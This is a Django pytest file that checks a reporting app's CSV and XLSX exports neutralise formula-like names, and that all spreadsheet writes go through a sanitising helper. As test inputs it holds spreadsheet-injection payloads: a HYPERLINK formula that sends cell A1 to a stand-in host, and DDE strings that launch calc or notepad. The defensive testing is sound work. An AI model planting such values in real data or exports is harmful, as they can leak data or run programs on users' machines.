"""Names that look like spreadsheet formulas reach every CSV and XLSX download as plain text.

A structure, place, partner, network or external recipient may be named `=HYPERLINK(...)`: each
export is downloaded through its real view (or the `maillage report` command) and read back.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from maillage.counter.models import Request, Visit
from maillage.factories import sign_in
from maillage.lib.spreadsheet import FORMULA_STARTS, is_dangerous
from maillage.referrals.models import Referral
from maillage.reports import rollup
from maillage.reports.links import token_for
from maillage.reports.models import ReportLink
from maillage.reports.tests.helpers import seed
from maillage.territory.models import Commune

HYPERLINK = '=HYPERLINK("http://x?d="&A1,"Cliquez ici")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+cmd|' /C notepad'!A0"
MINUS = "-1+cmd|' /C calc'!A0"


def _client(user: Any) -> Client:
    client = Client()
    sign_in(client, user)
    return client


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def _assert_csv_is_safe(content: bytes, *names: str) -> None:
    cells = _csv_cells(content)
    unsafe = [cell for cell in cells if is_dangerous(cell)]
    assert not unsafe, f"cellules lues comme des formules : {unsafe}"
    for name in names:
        assert any(cell.startswith("'" + name) for cell in cells), f"{name} absent ou non protégé"


def _assert_xlsx_is_safe(content: bytes, *names: str) -> None:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formules dans le classeur : {formulas}"
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
            assert cell.data_type == "s", f"{cell.coordinate} : {cell.value!r}"
            assert cell.quotePrefix, f"{cell.coordinate} : {cell.value!r}"
    values = {cell.value for cell in cells}
    for name in names:
        assert name in values, f"{name} absent du classeur"


@pytest.fixture
def dangerous_report(cast: Any) -> Any:
    """A year of activity for structure A whose place and partners carry formula-like names."""
    cast.structure_a.name = HYPERLINK
    cast.structure_a.save()
    cast.place_a.name = COMMAND
    cast.place_a.save()
    cast.partner.name = PLUS
    cast.partner.save()
    seed(cast, visits=40)
    rollup.refresh()
    return cast


def test_report_csv_and_xlsx_downloads_carry_names_as_text(dangerous_report: Any) -> None:
    cast = dangerous_report
    client = _client(cast.manager_a)
    query = {"scope": f"structure:{cast.structure_a.uuid}", "period": "2025"}
    csv_response = client.get("/pilotage/", query | {"format": "csv"})
    assert csv_response.status_code == 200
    _assert_csv_is_safe(csv_response.content, COMMAND, PLUS)
    xlsx_response = client.get("/pilotage/", query | {"format": "xlsx"})
    assert xlsx_response.status_code == 200
    _assert_xlsx_is_safe(xlsx_response.content, COMMAND, PLUS)


def test_shared_link_csv_and_xlsx_carry_names_as_text(dangerous_report: Any) -> None:
    cast = dangerous_report
    link = ReportLink.objects.create(
        label="Partage",
        parameters={
            "scope": f"structure:{cast.structure_a.uuid}",
            "period": "2025",
            "partner": None,
            "key": "requests",
        },
        created_by=cast.manager_a,
        expires_at=timezone.now() + dt.timedelta(days=7),
    )
    anonymous = Client()
    url = f"/pilotage/partage/{token_for(link)}/"
    csv_response = anonymous.get(url, {"format": "csv"})
    assert csv_response.status_code == 200
    _assert_csv_is_safe(csv_response.content, COMMAND, PLUS)
    xlsx_response = anonymous.get(url, {"format": "xlsx"})
    assert xlsx_response.status_code == 200
    _assert_xlsx_is_safe(xlsx_response.content, COMMAND, PLUS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_command_writes_names_as_text(dangerous_report: Any, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"rapport.{fmt}"
    call_command(
        "report",
        *["--scope", "structure", "--id", str(dangerous_report.structure_a.pk), "--period", "2025"],
        *["--format", fmt, "--out", str(out)],
    )
    check = _assert_csv_is_safe if fmt == "csv" else _assert_xlsx_is_safe
    check(out.read_bytes(), COMMAND, PLUS)


def test_chain_csv_carries_structure_and_external_names_as_text(cast: Any) -> None:
    cast.structure_a.name = HYPERLINK
    cast.structure_a.save()
    source = Request.objects.create(
        visit=Visit.objects.create(),
        structure=cast.structure_a,
        place=cast.place_a,
        mediator=cast.mediator_a,
        domain="housing",
    )
    Referral.objects.create(
        request=source, from_structure=cast.structure_a, external_name=COMMAND, external_email="c@x.fr", reason="x"
    )
    response = _client(cast.manager_a).get(reverse("referrals:chain"), {"format": "csv"})
    assert response.status_code == 200
    _assert_csv_is_safe(response.content, HYPERLINK, COMMAND)


def test_indicators_csv_carries_the_network_name_as_text(cast: Any) -> None:
    cast.network_a.name = MINUS
    cast.network_a.save()
    response = _client(cast.coordinator_a).get(
        reverse("reports:indicators"),
        {"scope": f"network:{cast.network_a.uuid}", "period": "2025", "distance": "10", "format": "csv"},
    )
    assert response.status_code == 200
    _assert_csv_is_safe(response.content, MINUS)


def test_coverage_csv_carries_commune_names_as_text(cast: Any) -> None:
    commune = Commune.objects.filter(departement_id="90").order_by("code").first()
    commune.name, commune.lat, commune.lon, commune.population = HYPERLINK, 47.64, 6.86, 1000
    commune.save()
    cast.place_a.commune, cast.place_a.lat, cast.place_a.lon = commune, 47.64, 6.86
    cast.place_a.save()
    response = _client(cast.coordinator_a).get(
        reverse("territory:coverage_csv"), {"departement": "90", "distance": "10", "unit": "km"}
    )
    assert response.status_code == 200
    _assert_csv_is_safe(response.content, HYPERLINK)


MAILLAGE = Path(__file__).resolve().parents[1]
HELPER = MAILLAGE / "lib" / "spreadsheet.py"
CSV_WRITERS = {"writer", "DictWriter"}


def _direct_writes(path: Path) -> list[str]:
    """Calls that would write a CSV or XLSX cell without going through `maillage.lib.spreadsheet`."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    uses_openpyxl = any(
        (isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"))
        or (isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names))
        for node in ast.walk(tree)
    )
    found = []
    text = path.read_text(encoding="utf-8")
    helper_imported = any(
        isinstance(n, ast.ImportFrom) and n.module == "maillage.lib.spreadsheet" for n in ast.walk(tree)
    )
    if ("text/csv" in text or "spreadsheetml" in text) and not helper_imported:
        found.append(f"{path.relative_to(MAILLAGE.parent)} sert un tableur sans maillage.lib.spreadsheet")
    for node in ast.walk(tree):
        where = f"{path.relative_to(MAILLAGE.parent)}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.ImportFrom) and node.module == "csv" and {a.name for a in node.names} & CSV_WRITERS:
            found.append(f"{where} from csv import writer")
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
            found += [f"{where} csv.{node.attr}"] if node.attr in CSV_WRITERS else []
        if not uses_openpyxl:
            continue
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr == "cell" and (len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)):
                found.append(f"{where} .cell(..., valeur)")
            if node.func.attr == "append":
                found.append(f"{where} .append(...)")
        if isinstance(node, ast.Assign | ast.AugAssign | ast.AnnAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            if any(isinstance(t, ast.Attribute) and t.attr == "value" for t in targets):
                found.append(f"{where} .value =")
    return found


def test_no_module_writes_a_spreadsheet_without_the_helper() -> None:
    modules = [
        path
        for path in MAILLAGE.rglob("*.py")
        if path != HELPER and "tests" not in path.relative_to(MAILLAGE).parts and "migrations" not in path.parts
    ]
    assert len(modules) > 50
    offenders = [hit for path in modules for hit in _direct_writes(path)]
    assert not offenders, "écrire par maillage.lib.spreadsheet : " + ", ".join(offenders)
